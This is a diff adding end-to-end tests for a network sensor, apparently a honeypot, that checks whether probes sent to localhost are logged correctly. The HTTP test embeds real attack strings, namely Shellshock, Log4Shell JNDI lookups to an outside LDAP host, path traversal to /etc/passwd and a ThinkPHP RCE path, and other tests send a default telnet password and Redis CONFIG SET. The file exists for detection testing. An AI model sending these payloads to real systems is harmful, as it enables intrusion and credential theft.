@@ -1,0 +1,383 @@
+"""trawl sensor on 127.0.0.1 high ports, with real clients (ssh, curl, openssl,
+redis-cli, python sockets): the JSONL events carry what each client sent."""
+import base64
+import hashlib
+import http.server
+import json
+import os
+import re
+import shutil
+import signal
+import socket
+import struct
+import subprocess
+import threading
+import time
+
+import pytest
+
+from conftest import free_port
+
+
+def need(tool):
+    if not shutil.which(tool):
+        pytest.skip("%s is not installed (scripts/install-deps.sh installs it)" % tool)
+
+
+class Sensor:
+    def __init__(self, trawl, tmp_path, *extra, tcp=None, udp="", name="e2e"):
+        self.ports = {}
+        spec = []
+        for role in (tcp or ["ssh", "telnet", "http", "tls", "redis", "smb", "rdp", "raw"]):
+            self.ports[role] = free_port()
+            r = role if role in ("ssh", "telnet", "redis") else ""
+            spec.append("%d%s" % (self.ports[role], "/" + r if r else ""))
+        self.udp_port = free_port() if udp else None
+        self.out = str(tmp_path / ("events-%d.jsonl" % free_port()))
+        argv = trawl.cmd("sensor", "--bind", "127.0.0.1", "--name", name, "--tcp", ",".join(spec),
+                         "--udp", str(self.udp_port) if udp else "", "--out", self.out, *extra)
+        self.proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                                     text=True)
+        self.log = []
+        while True:
+            line = self.proc.stderr.readline()
+            if not line:
+                raise AssertionError("sensor did not start: %s" % "".join(self.log))
+            self.log.append(line)
+            if "sensor listening" in line:
+                break
+        self.reader = threading.Thread(target=self._drain, daemon=True)
+        self.reader.start()
+
+    def _drain(self):
+        for line in self.proc.stderr:
+            self.log.append(line)
+
+    def events(self):
+        if not os.path.exists(self.out):
+            return []
+        with open(self.out) as f:
+            return [json.loads(l) for l in f if l.strip()]
+
+    def wait_events(self, pred, count=1, timeout=30):
+        deadline = time.time() + timeout
+        while time.time() < deadline:
+            got = [e for e in self.events() if pred(e)]
+            if len(got) >= count:
+                return got
+            time.sleep(0.05)
+        raise AssertionError("wanted %d matching events, have: %s" % (count, self.events()))
+
+    def on(self, role):
+        return self.wait_events(lambda e: e["dst_port"] == self.ports[role])
+
+    def stop(self):
+        if self.proc.poll() is None:
+            self.proc.send_signal(signal.SIGTERM)
+            self.proc.wait(timeout=30)
+        self.reader.join(timeout=5)
+        return self.proc.returncode
+
+
+@pytest.fixture
+def sensor(trawl, tmp_path):
+    s = Sensor(trawl, tmp_path, udp=True)
+    yield s
+    assert s.stop() == 0
+
+
+def test_ssh_client_version_and_hassh(sensor):
+    need("ssh")
+    p = subprocess.run(["ssh", "-vv", "-o", "StrictHostKeyChecking=no", "-o",
+                        "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-p",
+                        str(sensor.ports["ssh"]), "root@127.0.0.1", "true"],
+                       capture_output=True, text=True, timeout=30)
+    # The client's own account of its KEXINIT lists: the HASSH input.
+    lines = p.stderr.splitlines()
+    start = next(i for i, l in enumerate(lines) if "local client KEXINIT proposal" in l)
+    prop = {}
+    for l in lines[start + 1:start + 12]:
+        m = re.match(r"debug2: ([^:]+): (.*)", l)
+        if m:
+            prop.setdefault(m.group(1), m.group(2))
+    want = hashlib.md5(";".join([prop["KEX algorithms"], prop["ciphers ctos"], prop["MACs ctos"],
+                                 prop["compression ctos"]]).encode()).hexdigest()
+    version = re.search(r"Local version string (.+)", p.stderr).group(1).strip()
+    # it saw our banner and our KEXINIT
+    assert "remote software version OpenSSH_8.9p1" in p.stderr
+    [e] = sensor.on("ssh")
+    assert e["proto"] == "ssh" and e["sensor"] == "e2e" and e["transport"] == "tcp"
+    assert e["src_ip"] == "127.0.0.1" and e["dst_ip"] == "127.0.0.1"
+    assert e["fields"]["ssh_client"] == version
+    assert e["fields"]["hassh"] == want
+    assert base64.b64decode(e["payload_b64"]).startswith(version.encode() + b"\r\n")
+
+
+def test_http_exploit_shaped_requests(sensor):
+    need("curl")
+    base = "http://127.0.0.1:%d" % sensor.ports["http"]
+    code = lambda *a: subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", *a],
+                                     capture_output=True, text=True, timeout=30).stdout
+    assert code(base + "/") == "200"
+    assert code("--path-as-is", base + "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd") == "404"
+    assert code("-A", "() { :;}; echo; /bin/bash -c 'cat /etc/passwd'", base + "/cgi-bin/status") == "404"
+    assert code("-H", "X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}",
+                "-d", "s=${${lower:j}ndi:ldap://198.51.100.7/x}",
+                base + "/index.php?s=/Index/\\think\\app/invokefunction") == "404"
+    evs = sensor.wait_events(lambda e: e["dst_port"] == sensor.ports["http"], count=4)
+    by_path = {e["fields"]["http_path"]: e for e in evs}
+    assert by_path["/"]["fields"]["http_method"] == "GET"
+    assert by_path["/"]["fields"]["http_user_agent"].startswith("curl/")
+    assert "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd" in by_path
+    assert by_path["/cgi-bin/status"]["fields"]["http_user_agent"].startswith("() { :;};")
+    post = by_path["/index.php"]
+    assert post["fields"]["http_method"] == "POST"
+    assert post["fields"]["http_query"] == "s=/Index/\\\\think\\\\app/invokefunction"
+    assert post["fields"]["http_body"] == "s=${${lower:j}ndi:ldap://198.51.100.7/x}"
+    assert b"X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}" in base64.b64decode(post["payload_b64"])
+    assert all(e["proto"] == "http" for e in evs)
+
+
+def test_tls_client_hello(sensor):
+    need("openssl")
+    need("curl")
+    port = sensor.ports["tls"]
+    subprocess.run(["openssl", "s_client", "-connect", "127.0.0.1:%d" % port, "-servername",
+                    "sensor.example"], stdin=subprocess.DEVNULL, capture_output=True, timeout=30)
+    subprocess.run(["curl", "-sk", "--resolve", "www.example.org:%d:127.0.0.1" % port,
+                    "https://www.example.org:%d/" % port], capture_output=True, timeout=30)
+    evs = sensor.wait_events(lambda e: e["dst_port"] == port, count=2)
+    by_sni = {e["fields"]["tls_sni"]: e for e in evs}
+    for e in evs:
+        f = e["fields"]
+        assert e["proto"] == "tls"
+        assert f["ja3_hash"] == hashlib.md5(f["ja3"].encode()).hexdigest()
+        assert re.fullmatch(r"t13d\d{4}[0-9a-z]{2}_[0-9a-f]{12}_[0-9a-f]{12}", f["ja4"])
+    assert by_sni["www.example.org"]["fields"]["ja4"][8:10] == "h2"      # curl offers h2 first
+    assert by_sni["sensor.example"]["fields"]["ja4"][8:10] == "00"       # s_client: no ALPN
+
+
+def recv_until(s, token, timeout=10):
+    s.settimeout(timeout)
+    data = b""
+    while token not in data:
+        d = s.recv(4096)
+        if not d:
+            break
+        data += d
+    return data
+
+
+def test_telnet_login_attempt(sensor):
+    s = socket.create_connection(("127.0.0.1", sensor.ports["telnet"]))
+    hello = recv_until(s, b"login: ")
+    assert hello.startswith(b"\xff")          # it negotiates like a telnet server
+    s.sendall(b"\xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0root\r\n")
+    assert b"Password: " in recv_until(s, b"Password: ")
+    s.sendall(b"xc3511\r\n")
+    assert b"Login incorrect" in recv_until(s, b"incorrect")
+    s.close()
+    [e] = sensor.on("telnet")
+    assert e["proto"] == "telnet"
+    assert e["fields"]["username"] == "root"
+    assert e["fields"]["password"] == "xc3511"
+
+
+def smb2_negotiate(compression):
+    dialects = [0x0202, 0x0210, 0x0300, 0x0302, 0x0311]
+    hdr = b"\xfeSMB" + struct.pack("<H", 64) + b"\0" * 58
+    ctx_off = 64 + 36 + 2 * len(dialects)
+    ctx_off += (-ctx_off) % 8
+    ctxs = [(1, struct.pack("<HH", 1, 32) + b"\x11" * 32)]
+    if compression:   # SMB2_COMPRESSION_CAPABILITIES: LZNT1, LZ77, LZ77+Huffman
+        ctxs.append((3, struct.pack("<HHI", 3, 0, 0) + struct.pack("<HHH", 1, 2, 3)))
+    body = struct.pack("<HHHHI16sIHH", 36, len(dialects), 1, 0, 0x7f, b"\x22" * 16, ctx_off,
+                       len(ctxs), 0) + b"".join(struct.pack("<H", d) for d in dialects)
+    msg = hdr + body
+    msg += b"\0" * (ctx_off - len(msg))
+    for i, (t, data) in enumerate(ctxs):
+        msg += struct.pack("<HHI", t, len(data), 0) + data
+        if i + 1 < len(ctxs):
+            msg += b"\0" * ((-len(msg)) % 8)
+    return struct.pack(">I", len(msg)) + msg
+
+
+def test_smb_rdp_redis_raw_udp(sensor):
+    s = socket.create_connection(("127.0.0.1", sensor.ports["smb"]))
+    s.sendall(smb2_negotiate(True))
+    assert s.recv(100) == b""                 # read the NEGOTIATE, then close
+    s.close()
+    cr = b"Cookie: mstshash=Administr\r\n" + struct.pack("<BBHI", 1, 0, 8, 3)
+    x224 = bytes([6 + len(cr), 0xE0, 0, 0, 0, 0, 0]) + cr
+    s = socket.create_connection(("127.0.0.1", sensor.ports["rdp"]))
+    s.sendall(struct.pack(">BBH", 3, 0, 4 + len(x224)) + x224)
+    cc = s.recv(100)
+    assert cc[:2] == b"\x03\x00" and cc[5] == 0xD0      # X.224 Connection Confirm
+    s.close()
+    s = socket.create_connection(("127.0.0.1", sensor.ports["redis"]))
+    s.sendall(b"*3\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n*2\r\n$4\r\nAUTH\r\n$3\r\nfoo\r\n")
+    assert recv_until(s, b"+OK\r\n") == b"-NOAUTH Authentication required.\r\n+OK\r\n"
+    s.close()
+    s = socket.create_connection(("127.0.0.1", sensor.ports["raw"]))
+    s.sendall(b"\x00\x01binary-probe")
+    s.shutdown(socket.SHUT_WR)
+    s.recv(10)
+    s.close()
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.sendto(b"M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n\r\n", ("127.0.0.1", sensor.udp_port))
+    u.close()
+
+    [e] = sensor.on("smb")
+    assert e["proto"] == "smb"
+    assert e["fields"]["smb_dialects"] == "0x0202,0x0210,0x0300,0x0302,0x0311"
+    assert e["fields"]["smb_compression"] == "1"
+    assert e["fields"]["smb_compression_algorithms"] == "0x0001,0x0002,0x0003"
+    [e] = sensor.on("rdp")
+    assert e["proto"] == "rdp" and e["fields"]["rdp_cookie"] == "Administr"
+    assert e["fields"]["rdp_protocols"] == "3"
+    [e] = sensor.on("redis")
+    assert e["proto"] == "redis" and e["fields"]["redis_command"] == "CONFIG SET dir"
+    [e] = sensor.on("raw")
+    assert e["proto"] == "raw" and base64.b64decode(e["payload_b64"]) == b"\x00\x01binary-probe"
+    [e] = sensor.wait_events(lambda e: e["transport"] == "udp")
+    assert e["dst_port"] == sensor.udp_port and e["dst_ip"] == "127.0.0.1"
+    assert base64.b64decode(e["payload_b64"]).startswith(b"M-SEARCH")
+
+
+def test_redis_cli(sensor):
+    need("redis-cli")
+    p = subprocess.run(["redis-cli", "-h", "127.0.0.1", "-p", str(sensor.ports["redis"]),
+                        "CONFIG", "GET", "dir"], capture_output=True, text=True, timeout=30)
+    assert "NOAUTH" in p.stdout + p.stderr
+    [e] = sensor.on("redis")
+    assert e["fields"]["redis_command"] == "CONFIG GET dir"
+
+
+def test_idle_connection_and_many_at_once(trawl, tmp_path):
+    import resource
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    n = 1500
+    if hard < n + 100:
+        pytest.skip("RLIMIT_NOFILE hard limit %d is below %d" % (hard, n + 100))
+    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, n + 100), hard))
+    s = Sensor(trawl, tmp_path, "--idle", "1", tcp=["raw"])
+    try:
+        # A client that sends and then says nothing is recorded after the idle timeout.
+        quiet = socket.create_connection(("127.0.0.1", s.ports["raw"]))
+        quiet.sendall(b"hello?")
+        [e] = s.wait_events(lambda e: base64.b64decode(e.get("payload_b64", "")) == b"hello?")
+        assert quiet.recv(10) == b""          # and the sensor hung up
+        quiet.close()
+        # Many clients at once: every one becomes exactly one event.
+        socks = []
+        for i in range(n):
+            c = socket.create_connection(("127.0.0.1", s.ports["raw"]))
+            c.sendall(b"conn-%05d" % i)
+            socks.append(c)
+        for c in socks:
+            c.close()
+        evs = s.wait_events(lambda e: e.get("payload_b64", "").startswith("Y29ubi0"), count=n)
+        payloads = sorted(base64.b64decode(e["payload_b64"]) for e in evs)
+        assert payloads == [b"conn-%05d" % i for i in range(n)]
+    finally:
+        assert s.stop() == 0
+
+
+class Recorder(http.server.BaseHTTPRequestHandler):
+    """A test peer for the sensor's HTTP client: records each POST; answers
+    503 to the first `fail_first` requests, then 200."""
+    posts = []
+    fail_first = 0
+
+    def do_POST(self):
+        body = self.rfile.read(int(self.headers["Content-Length"]))
+        cls = type(self)
+        if cls.fail_first > 0:
+            cls.fail_first -= 1
+            self.send_response(503)
+            self.end_headers()
+            return
+        cls.posts.append((self.path, dict(self.headers), json.loads(body)))
+        out = json.dumps({"accepted": len(json.loads(body)["events"])}).encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(out)))
+        self.end_headers()
+        self.wfile.write(out)
+
+    def log_message(self, *a):
+        pass
+
+
+def spooled_events(spool):
+    out = []
+    for name in sorted(os.listdir(spool)):
+        assert not name.startswith(".tmp"), "half-written batch left in the spool"
+        if name.startswith("batch-"):
+            with open(os.path.join(spool, name)) as f:
+                out += json.load(f)["events"]
+    return out
+
+
+def test_upstream_spools_while_unreachable_then_drains(trawl, tmp_path):
+    need("curl")
+    spool = str(tmp_path / "spool")
+    closed = free_port()       # nothing listens here
+    s = Sensor(trawl, tmp_path, "--upstream", "http://127.0.0.1:%d" % closed, "--key", "k-123",
+               "--spool", spool, "--batch-seconds", "1", tcp=["http"])
+    for i in range(3):
+        subprocess.run(["curl", "-s", "http://127.0.0.1:%d/probe-%d" % (s.ports["http"], i)],
+                       capture_output=True, timeout=30)
+    deadline = time.time() + 30
+    while time.time() < deadline and len(spooled_events(spool) if os.path.isdir(spool) else []) < 3:
+        time.sleep(0.1)
+    # one more, still gathering in memory when the sensor is told to stop
+    subprocess.run(["curl", "-s", "http://127.0.0.1:%d/probe-3" % s.ports["http"]],
+                   capture_output=True, timeout=30)
+    s.wait_events(lambda e: e["fields"].get("http_path") == "/probe-3")
+    assert s.stop() == 0
+    log = "".join(s.log)
+    assert "retrying" in log and "batches stay spooled" in log
+    paths = sorted(e["fields"]["http_path"] for e in spooled_events(spool))
+    assert paths == ["/probe-0", "/probe-1", "/probe-2", "/probe-3"]
+
+    # Now a server that fails once (503: the batch must stay) and then accepts.
+    Recorder.posts = []
+    Recorder.fail_first = 1
+    httpd = http.server.HTTPServer(("127.0.0.1", 0), Recorder)
+    t = threading.Thread(target=httpd.serve_forever, daemon=True)
+    t.start()
+    try:
+        s2 = Sensor(trawl, tmp_path, "--upstream", "http://127.0.0.1:%d/" % httpd.server_port,
+                    "--key", "k-123", "--spool", spool, "--batch-seconds", "1", tcp=["http"])
+        deadline = time.time() + 60
+        while time.time() < deadline and spooled_events(spool):
+            time.sleep(0.1)
+        assert s2.stop() == 0
+    finally:
+        httpd.shutdown()
+    assert Recorder.fail_first == 0
+    log2 = "".join(s2.log)
+    assert "batches waiting" in log2 and "HTTP 503" in log2 and "reachable again" in log2
+    assert spooled_events(spool) == []
+    got = []
+    for path, headers, body in Recorder.posts:
+        assert path == "/api/noise/events"
+        assert headers["Authorization"] == "Bearer k-123"
+        assert headers["Content-Type"] == "application/json"
+        assert set(body) == {"events"}
+        got += body["events"]
+    assert sorted(e["fields"]["http_path"] for e in got) == paths
+    assert all(e["sensor"] == "e2e" and e["proto"] == "http" for e in got)
+
+
+def test_sensor_usage_errors(trawl, tmp_path):
+    p = trawl.run("sensor", "--tcp", "80")
+    assert p.returncode == 2 and "--out" in p.stderr
+    p = trawl.run("sensor", "--tcp", "80x", "--out", str(tmp_path / "x"))
+    assert p.returncode == 2 and "bad port" in p.stderr
+    p = trawl.run("sensor", "--out", "-", "--upstream", "http://127.0.0.1:1")
+    assert p.returncode == 2 and "--key" in p.stderr
+    p = trawl.run("sensor", "--bind", "127.0.0.1", "--tcp", free_port(), "--udp", "", "--out", "-",
+                  "--upstream", "https://x", "--key", "k")
+    assert p.returncode == 1 and "http://" in p.stderr
